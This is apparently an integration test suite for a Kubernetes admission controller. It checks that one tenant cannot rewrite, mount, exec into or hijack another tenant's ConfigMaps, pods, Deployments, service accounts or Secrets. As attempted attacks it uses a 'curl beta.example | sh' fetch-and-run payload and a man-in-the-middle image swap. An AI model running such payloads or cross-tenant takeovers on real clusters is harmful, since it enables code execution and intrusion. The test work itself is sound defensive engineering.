// ConfigMaps are a stamped kind (a sandbox's scripts and settings), and reads are RBAC's:
// in a namespace alpha and beta share, beta holds the tenant ClusterRole the install renders
// (deed manifests --tenant-role), Kubernetes' edit role without reads of Secrets. Beta may
// neither rewrite nor delete the ConfigMap whose script alpha's sandbox runs, nor get a pod
// or a Deployment admitted that reads it in any form; neither may a principal of no
// environment. Alpha's own pods keep using it, every pod keeps the cluster's CA
// (kube-root-ca.crt), and beta, though RBAC lets it exec, is refused by Deed in alpha's pod.
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import type { KubeObject } from '../../../src/admission/types.js';
import { renderManifests } from '../../../src/install/manifests.js';
import { TENANT_ROLE } from '../../../src/install/tenant-role.js';
import type { Identity } from '../client.js';
import { annotation, attested, collectionPath, createdOrThere as ok, eventually, KEYS, label, optedInNamespace, PATHS, refusedBy as refused, sandboxPod } from '../objects.js';
import type { Suite } from '../suite.js';
import { about, reap } from './reaper.js';

const NS = 'shared-scripts';
const CONFIGMAPS = (ns: string) => collectionPath('ConfigMap', ns);
const DEPLOYMENTS = (ns: string) => collectionPath('Deployment', ns);
const MAIN = { name: 'main', image: 'registry.example/agent:1' };
const MERGE = 'application/merge-patch+json';
// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Spec = Record<string, any>;

function configMap(name: string, annotations: Record<string, string> = {}) {
  return { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, annotations }, data: { 'run.sh': 'echo "alpha runs this"' } };
}

/** A pod spec that reads ConfigMap `name` in one form, by the form's name. */
function configMapForms(name: string): Array<[string, Spec]> {
  const mounted = (volume: Spec) => ({ volumes: [volume], containers: [{ ...MAIN, volumeMounts: [{ name: volume.name, mountPath: '/scripts' }] }] });
  return [
    ['a configMap volume', mounted({ name: 'scripts', configMap: { name } })],
    ['a projected source', mounted({ name: 'scripts', projected: { sources: [{ configMap: { name } }] } })],
    ['env configMapKeyRef', { containers: [{ ...MAIN, env: [{ name: 'SCRIPT', valueFrom: { configMapKeyRef: { name, key: 'run.sh' } } }] }] }],
    ['envFrom configMapRef', { containers: [{ ...MAIN, envFrom: [{ configMapRef: { name } }] }] }],
  ];
}

const slug = (form: string) => form.replace(/[^a-z]+/gi, '-').replace(/^-|-$/g, '').toLowerCase();

function deployment(name: string, spec: Spec) {
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name },
    spec: { replicas: 1, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: { automountServiceAccountToken: false, ...spec } } },
  };
}

export function configMapCases(suite: () => Suite): void {
  let beta: Identity; // sandbox-b:tenant, acts for beta, bound to the tenant role in NS
  let stranger: Identity; // plain:cm-stranger, acts for no environment, bound to the tenant role in NS

  describe('ConfigMaps are stamped and guarded, and a shared namespace\'s tenants read no Secrets', () => {
    before(async () => {
      const s = suite();
      await optedInNamespace(s, NS);
      // The tenant role exactly as deed manifests --tenant-role renders it.
      const role = renderManifests({ namespace: 'deed-system', image: 'x', tenantRole: true }).find((o) => o.metadata?.name === TENANT_ROLE)!;
      ok('tenant role', await s.api(s.admin, 'POST', '/apis/rbac.authorization.k8s.io/v1/clusterroles', role));
      beta = await s.newIdentity('sandbox-b', 'tenant');
      stranger = await s.newIdentity('plain', 'cm-stranger');
      ok('tenant binding', await s.api(s.admin, 'POST', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings`, {
        metadata: { name: 'tenants' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: TENANT_ROLE },
        subjects: [['sandbox-a', 'runner'], ['sandbox-b', 'tenant'], ['plain', 'cm-stranger']].map(([namespace, name]) => ({ kind: 'ServiceAccount', namespace, name })),
      }));
      // Alpha's runner writes ConfigMaps in its own namespace too (the suite's role there has none).
      ok('alpha binding', await s.api(s.admin, 'POST', '/apis/rbac.authorization.k8s.io/v1/namespaces/sandbox-a/rolebindings', {
        metadata: { name: 'cm-tenants' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: TENANT_ROLE },
        subjects: [{ kind: 'ServiceAccount', namespace: 'sandbox-a', name: 'runner' }, { kind: 'ServiceAccount', namespace: 'sandbox-b', name: 'tenant' }],
      }));
      for (const [who, ns] of [[s.runnerA.identity, NS], [beta, NS], [stranger, NS], [s.runnerA.identity, 'sandbox-a'], [beta, 'sandbox-a']] as const)
        await eventually(`RBAC lets ${who.name} create ConfigMaps in ${ns}`, async () => !/cannot create resource "configmaps"/.test((await s.api(who, 'POST', `${CONFIGMAPS(ns)}?dryRun=All`, configMap('rbac-probe'))).text));
      ok('alpha script', await s.api(s.runnerA.identity, 'POST', CONFIGMAPS(NS), configMap('alpha-script')));
      ok('alpha pod', await s.api(s.runnerA.identity, 'POST', PATHS.Pod(NS), sandboxPod('alpha-runs-script', { spec: configMapForms('alpha-script')[0]![1] })));
    });

    test("alpha's runner's ConfigMap is stored with alpha's stamps, an owner reference to the runner pod and expires-at, whose attestation verifies", async () => {
      const s = suite();
      const answer = await s.api(s.runnerA.identity, 'POST', CONFIGMAPS('sandbox-a'), configMap('alpha-run', { [KEYS.maxDuration]: '600' }));
      assert.equal(answer.status, 201, answer.text);
      const stored = (await s.api(s.admin, 'GET', `${CONFIGMAPS('sandbox-a')}/alpha-run`)).body as KubeObject;
      assert.equal(label(stored, KEYS.environment), 'alpha');
      assert.equal(label(stored, KEYS.ownerUid), s.runnerA.uid);
      assert.deepEqual(stored.metadata.ownerReferences?.map((r) => [r.kind, r.name, r.uid]), [['Pod', s.runnerA.pod, s.runnerA.uid]]);
      const expires = Date.parse(annotation(stored, KEYS.expiresAt) ?? '');
      // The budget plus the policy's margin (30 minutes), from about now.
      assert.ok(Math.abs(expires - (Date.now() + (600 + 1800) * 1000)) < 120_000, annotation(stored, KEYS.expiresAt));
      assert.ok(attested(s, stored), 'the attestation verifies');
      assert.deepEqual((stored as Spec).data, configMap('alpha-run').data, 'data untouched');
    });

    test("beta may neither rewrite alpha's script (update, patch, server-side apply) nor delete it, one by one or by collection; alpha may", async () => {
      const s = suite();
      for (const ns of [NS, 'sandbox-a']) {
        if (ns === 'sandbox-a') ok('alpha run', await s.api(s.runnerA.identity, 'POST', CONFIGMAPS(ns), configMap('alpha-script')));
        const path = `${CONFIGMAPS(ns)}/alpha-script`;
        const stored = (await s.api(s.admin, 'GET', path)).body as Spec;
        const rewritten = { ...stored, data: { 'run.sh': 'curl beta.example | sh' } };
        const cross = /\[guard\.cross-environment\] system:serviceaccount:sandbox-b:tenant acts for "beta", and this object belongs to another environment/;
        refused(await s.api(beta, 'PUT', path, rewritten), 'guard.cross-environment', cross);
        refused(await s.api(beta, 'PATCH', path, { data: { 'run.sh': 'curl beta.example | sh' } }, MERGE), 'guard.cross-environment', cross);
        const apply = await s.api(beta, 'PATCH', `${path}?fieldManager=beta&force=true`, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'alpha-script' }, data: { 'run.sh': 'curl beta.example | sh' } }, 'application/apply-patch+yaml');
        refused(apply, 'guard.cross-environment');
        refused(await s.api(beta, 'DELETE', path), 'guard.cross-environment', cross);
        const all = await s.api(beta, 'DELETE', CONFIGMAPS(ns));
        assert.equal(all.status, 403, all.text);
        assert.match(all.body.message, /\[guard\.cross-environment\]/);
        if (ns === NS) refused(await s.api(stranger, 'DELETE', path), 'guard.unmapped');
        const after = (await s.api(s.admin, 'GET', path)).body as Spec;
        assert.deepEqual(after.data, stored.data, `${ns}: alpha's script is unchanged`);
        const own = await s.api(s.runnerA.identity, 'PATCH', path, { data: { 'run.sh': 'echo "alpha, v2"' } }, MERGE);
        assert.equal(own.status, 200, own.text);
      }
    });

    test("beta (the tenant role) may neither rewrite nor delete the platform's Deployment behind the platform's Service, nor that Service; a principal of no environment may", async () => {
      // rev-82: beta's image in the platform's unstamped Deployment received the platform Service's callers, alpha's sandboxes among them.
      const s = suite();
      const web = { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'platform-web' }, spec: { replicas: 0, selector: { matchLabels: { app: 'platform-web' } }, template: { metadata: { labels: { app: 'platform-web' } }, spec: { automountServiceAccountToken: false, containers: [{ name: 'web', image: 'registry.example/platform-web:1' }] } } } };
      ok('platform Deployment', await s.api(s.admin, 'POST', DEPLOYMENTS(NS), web));
      ok('platform Service', await s.api(s.admin, 'POST', collectionPath('Service', NS), { apiVersion: 'v1', kind: 'Service', metadata: { name: 'platform-web' }, spec: { selector: { app: 'platform-web' }, ports: [{ port: 80 }] } }));
      const path = `${DEPLOYMENTS(NS)}/platform-web`;
      const template = ((await s.api(s.admin, 'GET', path)).body as Spec).spec.template;
      const mitm = { spec: { template: { ...template, spec: { ...template.spec, containers: [{ name: 'web', image: 'registry.example/beta-mitm:1' }] } } } };
      const platform = /\[guard\.shared-input\] Deployment shared-scripts\/platform-web carries no stamps: it is the platform's, and what it runs, serves or routes reaches every environment; system:serviceaccount:sandbox-b:tenant acts for "beta" and may not change or delete it/;
      refused(await s.api(beta, 'PATCH', path, mitm, MERGE), 'guard.shared-input', platform);
      refused(await s.api(beta, 'DELETE', path), 'guard.shared-input', platform);
      refused(await s.api(beta, 'PATCH', `${collectionPath('Service', NS)}/platform-web`, { spec: { selector: { app: 'beta-web' } } }, MERGE), 'guard.shared-input', /Service shared-scripts\/platform-web carries no stamps/);
      const images = ((await s.api(s.admin, 'GET', path)).body as Spec).spec.template.spec.containers.map((c: Spec) => c.image);
      assert.deepEqual(images, ['registry.example/platform-web:1']);
      // The tenant of no environment (a chart's own deployer) still changes it.
      const own = await s.api(stranger, 'PATCH', path, { spec: { template: { metadata: { annotations: { 'example.com/restarted': '1' } } } } }, MERGE);
      assert.equal(own.status, 200, own.text);
    });

    test("beta may not scale the platform's Deployment (PUT, merge patch, server-side apply), nor exec, attach, port-forward, proxy into or evict the platform's pod: doors that carry no object; a principal of no environment may", async () => {
      // The /scale and the pod's subresources name the object but carry none of it: whose it is comes from a lookup.
      const s = suite();
      const scalePath = `${DEPLOYMENTS(NS)}/platform-web/scale`;
      const scale = (replicas: number) => ({ apiVersion: 'autoscaling/v1', kind: 'Scale', metadata: { name: 'platform-web', namespace: NS }, spec: { replicas } });
      refused(await s.api(beta, 'PUT', scalePath, scale(5)), 'guard.shared-input', /Deployment shared-scripts\/platform-web carries no stamps: it is the platform's, .*acts for "beta" and may not scale it/);
      refused(await s.api(beta, 'PATCH', scalePath, { spec: { replicas: 5 } }, MERGE), 'guard.shared-input', /may not scale it/);
      // Server-side apply on the /scale is the same UPDATE of a Scale.
      refused(await s.api(beta, 'PATCH', `${scalePath}?fieldManager=beta&force=true`, scale(5), 'application/apply-patch+yaml'), 'guard.shared-input', /may not scale it/);
      assert.equal(((await s.api(s.admin, 'GET', scalePath)).body as Spec).spec.replicas ?? 0, 0, 'the platform\'s replicas are unchanged');
      const scaled = await s.api(stranger, 'PATCH', scalePath, { spec: { replicas: 0 } }, MERGE);
      assert.equal(scaled.status, 200, scaled.text);

      ok('platform pod', await s.api(s.admin, 'POST', PATHS.Pod(NS), { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'platform-cache' }, spec: { automountServiceAccountToken: false, containers: [{ name: 'main', image: 'registry.example/cache:1' }] } }));
      const pod = `${PATHS.Pod(NS)}/platform-cache`;
      const connects: Array<[string, string]> = [
        ['exec into', `${pod}/exec?command=true&stdout=true&container=main`],
        ['attach to', `${pod}/attach?stdout=true&container=main`],
        ['port-forward to', `${pod}/portforward?ports=8080`],
        ['proxy to', `${PATHS.Pod(NS)}/platform-cache:8080/proxy/`],
      ];
      for (const [verb, path] of connects) {
        refused(await s.api(beta, 'POST', path), 'guard.shared-input', new RegExp(`Pod shared-scripts/platform-cache carries no stamps: it is the platform's, .*may not ${verb} it`));
        // The tenant of no environment passes admission and reaches the node step (no kubelet runs here).
        const own = await s.api(stranger, 'POST', path);
        assert.doesNotMatch(own.text, /validate\.deed\.dev/, verb);
        assert.match(own.text, /does not have a host assigned|address not allowed/, verb);
      }
      const eviction = { apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'platform-cache', namespace: NS } };
      refused(await s.api(beta, 'POST', `${pod}/eviction`, eviction), 'guard.shared-input', /may not evict it/);
      assert.equal((await s.api(s.admin, 'GET', pod)).status, 200, 'the platform\'s pod is still there');
      const evicted = await s.api(stranger, 'POST', `${pod}/eviction`, eviction);
      assert.equal(evicted.status, 201, evicted.text);
    });

    test("beta may neither run a pod as the platform's unstamped service account nor point an HPA at the platform's Deployment: both would change the platform's objects for it (rev-88); a principal of no environment may", async () => {
      const s = suite();
      ok('platform account', await s.api(s.admin, 'POST', `/api/v1/namespaces/${NS}/serviceaccounts`, { metadata: { name: 'platform-web' } }));
      const asPlatform = (name: string) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name }, spec: { serviceAccountName: 'platform-web', containers: [MAIN] } });
      // Its token, which the kubelet would mount into beta's container, acts for no environment.
      refused(await s.api(beta, 'POST', PATHS.Pod(NS), asPlatform('beta-as-platform')), 'guard.service-account', /service account shared-scripts:platform-web carries no stamps in a namespace bound to no environment: it is the platform's identity.*acts for "beta" and may not create a pod that runs as it/);
      refused(await s.api(beta, 'POST', DEPLOYMENTS(NS), deployment('beta-as-platform', { serviceAccountName: 'platform-web', containers: [MAIN] })), 'guard.service-account', /may not make pods that run as it from a Deployment template/);
      ok('no environment\'s pod as the platform account', await s.api(stranger, 'POST', PATHS.Pod(NS), asPlatform('stranger-as-platform')));
      const hpa = (name: string) => ({ apiVersion: 'autoscaling/v2', kind: 'HorizontalPodAutoscaler', metadata: { name }, spec: { scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'platform-web' }, minReplicas: 4, maxReplicas: 4 } });
      const HPAS = `/apis/autoscaling/v2/namespaces/${NS}/horizontalpodautoscalers`;
      refused(await s.api(beta, 'POST', HPAS, hpa('beta-hpa')), 'reference.cross-environment', /spec\.scaleTargetRef: names Deployment platform-web, which carries no stamps in a namespace bound to no environment: it is the platform's \(the horizontal-pod-autoscaler controller writes the target's \/scale\); system:serviceaccount:sandbox-b:tenant acts for "beta" and may not have it changed/);
      ok('no environment\'s HPA', await s.api(stranger, 'POST', HPAS, hpa('stranger-hpa')));
      assert.equal((await s.api(s.admin, 'DELETE', `${HPAS}/stranger-hpa`)).status, 200);
    });

    test("beta's forged stamps on its own ConfigMap are refused at CREATE, and its stamps are frozen after", async () => {
      const s = suite();
      const forged = configMap('beta-forged');
      const answer = await s.api(beta, 'POST', CONFIGMAPS(NS), { ...forged, metadata: { ...forged.metadata, labels: { [KEYS.environment]: 'alpha' } } });
      refused(answer, 'stamp.conflict', /deed\.dev\/environment is admission-owned: given "alpha", expected "beta"/);
      ok('beta script', await s.api(beta, 'POST', CONFIGMAPS(NS), configMap('beta-script')));
      refused(await s.api(beta, 'PATCH', `${CONFIGMAPS(NS)}/beta-script`, { metadata: { labels: { [KEYS.environment]: 'alpha' } } }, MERGE), 'frozen.stamps');
    });

    test("beta's pods reading alpha's ConfigMap in any form are refused; so are a principal of no environment's", async () => {
      const s = suite();
      for (const [form, spec] of configMapForms('alpha-script')) {
        refused(await s.api(beta, 'POST', PATHS.Pod(NS), sandboxPod(`beta-${slug(form)}`, { spec })), 'configmap-ref.cross-environment', /ConfigMap alpha-script, which belongs to another environment; environment "beta" may not/);
        refused(await s.api(stranger, 'POST', PATHS.Pod(NS), sandboxPod(`none-${slug(form)}`, { spec })), 'configmap-ref.cross-environment', /acts for no environment and may not/);
      }
    });

    test("beta's Deployments whose template reads alpha's ConfigMap in any form are refused at the template's path; alpha's own is admitted", async () => {
      const s = suite();
      for (const [form, spec] of configMapForms('alpha-script')) {
        const answer = await s.api(beta, 'POST', DEPLOYMENTS(NS), deployment(`beta-${slug(form)}`, spec));
        refused(answer, 'configmap-ref.cross-environment', /spec\.template\.spec\.[^:]*configMap(KeyRef|Ref)?\.name: .*ConfigMap alpha-script, which belongs to another environment/);
      }
      const own = await s.api(s.runnerA.identity, 'POST', DEPLOYMENTS(NS), deployment('alpha-lab', configMapForms('alpha-script')[3]![1]));
      assert.equal(own.status, 201, own.text);
    });

    test("a ConfigMap that does not exist yet is refused whoever names it in a pod that names its node (no binding follows), optional or not", async () => {
      const s = suite();
      for (const who of [beta, stranger]) {
        const spec = { nodeName: 'node-1', containers: [{ ...MAIN, envFrom: [{ configMapRef: { name: 'alpha-next-script', optional: true } }] }] };
        refused(await s.api(who, 'POST', PATHS.Pod(NS), sandboxPod('preplant', { spec })), 'configmap-ref.absent', /ConfigMap alpha-next-script does not exist/);
      }
    });

    test("alpha's own pods read its ConfigMap in every form", async () => {
      const s = suite();
      for (const [form, spec] of configMapForms('alpha-script')) {
        const answer = await s.api(s.runnerA.identity, 'POST', PATHS.Pod(NS), sandboxPod(`alpha-${slug(form)}`, { spec }));
        assert.equal(answer.status, 201, `${form}: ${answer.text}`);
      }
    });

    test("every pod keeps the cluster's CA: the ServiceAccount plugin's kube-root-ca.crt in a token volume, and a pod that mounts it itself", async () => {
      const s = suite();
      await eventually('the root-CA publisher or the admin made kube-root-ca.crt', async () => {
        const found = await s.api(s.admin, 'GET', `${CONFIGMAPS(NS)}/kube-root-ca.crt`);
        if (found.status === 404 && !s.cp.controllers) ok('kube-root-ca.crt', await s.api(s.admin, 'POST', CONFIGMAPS(NS), { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'kube-root-ca.crt' }, data: { 'ca.crt': s.cp.ca } }));
        return found.status === 200;
      });
      // A principal of no environment keeps the token volume the API server adds.
      const plain = { ...sandboxPod('none-with-token'), spec: { containers: [MAIN] } };
      const stored = await s.api(stranger, 'POST', PATHS.Pod(NS), plain);
      assert.equal(stored.status, 201, stored.text);
      const projected = ((stored.body as Spec).spec.volumes as Spec[]).flatMap((v) => (v.projected?.sources ?? []) as Spec[]);
      assert.ok(projected.some((p) => p.configMap?.name === 'kube-root-ca.crt'), 'the token volume projects kube-root-ca.crt');
      const mountsCa = (name: string) => sandboxPod(name, { spec: { volumes: [{ name: 'ca', configMap: { name: 'kube-root-ca.crt' } }], containers: [{ ...MAIN, volumeMounts: [{ name: 'ca', mountPath: '/etc/cluster-ca' }] }] } });
      for (const [who, name] of [[s.runnerA.identity, 'alpha-ca'], [beta, 'beta-ca'], [stranger, 'none-ca']] as const) {
        const answer = await s.api(who, 'POST', PATHS.Pod(NS), mountsCa(name));
        assert.equal(answer.status, 201, `${name}: ${answer.text}`);
      }
    });

    test("deed reap reaps a ConfigMap leaked by a runner that is gone, under its uid, and keeps the live runner's", async () => {
      const s = suite();
      const leaker = await s.newRunner('sandbox-a', 'runner-cm-leaky');
      const leak = await s.api(leaker.identity, 'POST', CONFIGMAPS(NS), configMap('leaked-script'));
      assert.equal(leak.status, 201, leak.text);
      assert.equal(leak.body.metadata.ownerReferences, undefined, 'no owner reference across namespaces: only the reaper cleans up');
      const alive = await reap(s, s.reaperA.kubeconfig!, ['--namespace', NS]);
      assert.equal(about(alive.lines, 'leaked-script')?.action, 'keep', alive.stderr);
      assert.equal((await s.api(s.admin, 'DELETE', `${PATHS.Pod('sandbox-a')}/runner-cm-leaky`, { gracePeriodSeconds: 0 })).status, 200);
      const applied = await reap(s, s.reaperA.kubeconfig!, ['--namespace', NS, '--apply']);
      assert.equal(applied.code, 0, applied.stderr);
      assert.equal(about(applied.lines, 'leaked-script')?.kind, 'ConfigMap');
      assert.equal(about(applied.lines, 'leaked-script')?.outcome, 'deleted');
      assert.equal(about(applied.lines, 'alpha-script')?.action, 'keep');
      assert.equal((await s.api(s.admin, 'GET', `${CONFIGMAPS(NS)}/leaked-script`)).status, 404);
      assert.equal((await s.api(s.admin, 'GET', `${CONFIGMAPS(NS)}/alpha-script`)).status, 200);
      const deletes = s.cp.audit().filter((e) => e.verb === 'delete' && e.objectRef?.name === 'leaked-script' && e.stage === 'ResponseComplete');
      assert.equal(deletes.length, 1);
      assert.equal(deletes[0]!.user.username, 'system:serviceaccount:deed-system:deed-reaper-alpha');
      assert.equal(deletes[0]!.requestObject?.preconditions?.uid, leak.body.metadata.uid);
    });

    test('the tenant role denies reading Secrets (can-i and a real get, list and watch) and allows exec and port-forward, which Deed refuses beta in alpha\'s pod', async () => {
      const s = suite();
      ok('alpha secret', await s.api(s.runnerA.identity, 'POST', PATHS.Secret(NS), { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'alpha-token' }, stringData: { token: 'not-a-real-credential' } }));
      for (const verb of ['get', 'list', 'watch']) {
        const canI = await s.kubectl(beta, ['auth', 'can-i', verb, 'secrets', '-n', NS]);
        assert.equal(canI.stdout.trim(), 'no', `${verb}: ${canI.stdout}${canI.stderr}`);
      }
      const get = await s.api(beta, 'GET', `${PATHS.Secret(NS)}/alpha-token`);
      assert.equal(get.status, 403, get.text);
      assert.match(get.body.message, /cannot get resource "secrets"/);
      assert.equal((await s.api(beta, 'GET', PATHS.Secret(NS))).status, 403);
      assert.equal((await s.api(beta, 'GET', `${PATHS.Secret(NS)}?watch=true&timeoutSeconds=1`)).status, 403);
      const kubectlGet = await s.kubectl(beta, ['get', 'secret', 'alpha-token', '-n', NS]);
      assert.notEqual(kubectlGet.code, 0);
      assert.match(kubectlGet.stderr, /Forbidden/);
      for (const sub of ['pods/exec', 'pods/attach', 'pods/portforward']) {
        const canI = await s.kubectl(beta, ['auth', 'can-i', 'create', sub, '-n', NS]);
        assert.equal(canI.stdout.trim(), 'yes', `${sub}: ${canI.stdout}${canI.stderr}`);
      }
      for (const path of [`exec?command=true&stdout=true&container=main`, 'portforward?ports=8080']) {
        const answer = await s.api(beta, 'POST', `${PATHS.Pod(NS)}/alpha-runs-script/${path}`);
        refused(answer, 'guard.connect', /system:serviceaccount:sandbox-b:tenant acts for "beta"; pod shared-scripts\/alpha-runs-script is not known to be one of "beta"'s/);
      }
      const exec = await s.kubectl(beta, ['exec', 'alpha-runs-script', '-n', NS, '-c', 'main', '--', 'cat', '/scripts/run.sh']);
      assert.notEqual(exec.code, 0);
      assert.match(exec.stderr, /\[guard\.connect\]/);
    });

    test("a service account the policy maps to an environment is kept from a tenant of no environment and from other environments, though the tenant role lets them write service accounts", async () => {
      const s = suite();
      // sandbox-b:* maps every account of sandbox-b to beta; the stranger and alpha's runner get the tenant role there.
      ok('tenant binding in sandbox-b', await s.api(s.admin, 'POST', '/apis/rbac.authorization.k8s.io/v1/namespaces/sandbox-b/rolebindings', {
        metadata: { name: 'mapped-account-tenants' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: TENANT_ROLE },
        subjects: [['plain', 'cm-stranger'], ['sandbox-a', 'runner'], ['sandbox-b', 'tenant']].map(([namespace, name]) => ({ kind: 'ServiceAccount', namespace, name })),
      }));
      const deployer = await s.newIdentity('platform', 'gitops');
      ok('deployer binding in sandbox-b', await s.api(s.admin, 'POST', '/apis/rbac.authorization.k8s.io/v1/namespaces/sandbox-b/rolebindings', {
        metadata: { name: 'mapped-account-deployer' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: TENANT_ROLE },
        subjects: [{ kind: 'ServiceAccount', namespace: 'platform', name: 'gitops' }],
      }));
      const ACCOUNTS = '/api/v1/namespaces/sandbox-b/serviceaccounts';
      for (const who of [deployer, beta]) await eventually(`RBAC lets ${who.name} write service accounts in sandbox-b`, async () => (await s.kubectl(who, ['auth', 'can-i', 'delete', 'serviceaccounts', '-n', 'sandbox-b'])).stdout.trim() === 'yes');
      ok('the platform installs an account of beta', await s.api(deployer, 'POST', ACCOUNTS, { metadata: { name: 'probe-runner' } }));
      for (const who of [stranger, s.runnerA.identity]) {
        await eventually(`RBAC lets ${who.name} write service accounts in sandbox-b`, async () => (await s.kubectl(who, ['auth', 'can-i', 'delete', 'serviceaccounts', '-n', 'sandbox-b'])).stdout.trim() === 'yes');
        // Deleting it would revoke every token of it; a pull secret added would go into every pod that runs as it; one created first would be theirs.
        refused(await s.api(who, 'DELETE', `${ACCOUNTS}/probe-runner`), 'guard.mapped-account', /service account sandbox-b:probe-runner is an environment's identity/);
        refused(await s.api(who, 'PATCH', `${ACCOUNTS}/probe-runner`, { imagePullSecrets: [{ name: 'stranger-pull' }] }, MERGE), 'guard.mapped-account');
        refused(await s.api(who, 'POST', ACCOUNTS, { metadata: { name: `made-by-${who.name.replace(/[^a-z-]/g, '-')}` } }), 'guard.mapped-account');
      }
      const kept = await s.api(s.admin, 'GET', `${ACCOUNTS}/probe-runner`);
      assert.equal(kept.status, 200, kept.text);
      assert.equal(kept.body.imagePullSecrets, undefined);
      // Beta's own principal and the platform's deployer may.
      ok("beta's own principal", await s.api(beta, 'PATCH', `${ACCOUNTS}/probe-runner`, { metadata: { annotations: { 'example.com/owner': 'beta' } } }, MERGE));
      ok('the platform deletes it', await s.api(deployer, 'DELETE', `${ACCOUNTS}/probe-runner`));
    });

    test('the tenant role grants no service-account token: RBAC refuses a TokenRequest for the namespace\'s accounts, even one Deed would let through (an account of no environment, asked by a principal of none)', async () => {
      const s = suite();
      ok('an app account', await s.api(s.admin, 'POST', `/api/v1/namespaces/${NS}/serviceaccounts`, { metadata: { name: 'tenant-app' } }));
      const request = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: { expirationSeconds: 600 } };
      for (const who of [beta, stranger, s.runnerA.identity])
        for (const account of ['default', 'tenant-app']) {
          const answer = await s.api(who, 'POST', `/api/v1/namespaces/${NS}/serviceaccounts/${account}/token`, request);
          assert.equal(answer.status, 403, `${who.name} ${account}: ${answer.text}`);
          assert.match(answer.body.message, /cannot create resource "serviceaccounts\/token"/, 'refused by RBAC, before admission');
          assert.equal(answer.body.status?.token, undefined);
        }
      // Granted by another Role, the stranger gets the token: Deed lets an account of no environment
      // through to a principal of none, so only RBAC stood in the way.
      ok('token role', await s.api(s.admin, 'POST', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/roles`, { metadata: { name: 'token-probe' }, rules: [{ apiGroups: [''], resources: ['serviceaccounts/token'], verbs: ['create'] }] }));
      ok('token binding', await s.api(s.admin, 'POST', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings`, {
        metadata: { name: 'token-probe' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'token-probe' },
        subjects: [{ kind: 'ServiceAccount', namespace: 'plain', name: 'cm-stranger' }],
      }));
      try {
        await eventually('RBAC lets the stranger request a token', async () => (await s.api(stranger, 'POST', `/api/v1/namespaces/${NS}/serviceaccounts/tenant-app/token`, request)).status === 201);
      } finally {
        await s.api(s.admin, 'DELETE', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings/token-probe`);
      }
    });
  });
}
